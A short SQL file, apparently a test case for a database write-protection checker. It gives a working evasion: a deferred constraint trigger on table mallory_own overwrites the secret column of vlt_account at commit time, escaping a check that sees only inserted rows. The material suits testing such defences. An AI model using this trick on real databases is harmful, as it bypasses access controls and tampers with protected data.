-- Lets a deferred trigger write at the Sync.
-- wants: write
-- unobserved: what a deferred trigger changes it changes at COMMIT, and the look behind that sees rows that were added, no more
-- attack:
CREATE FUNCTION w() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
  UPDATE vlt_account SET secret = 'x'; RETURN NULL; END$$;
CREATE CONSTRAINT TRIGGER t AFTER INSERT ON mallory_own DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION w();
-- pipeline
INSERT INTO mallory_own VALUES (100, 'x');
SELECT 1;
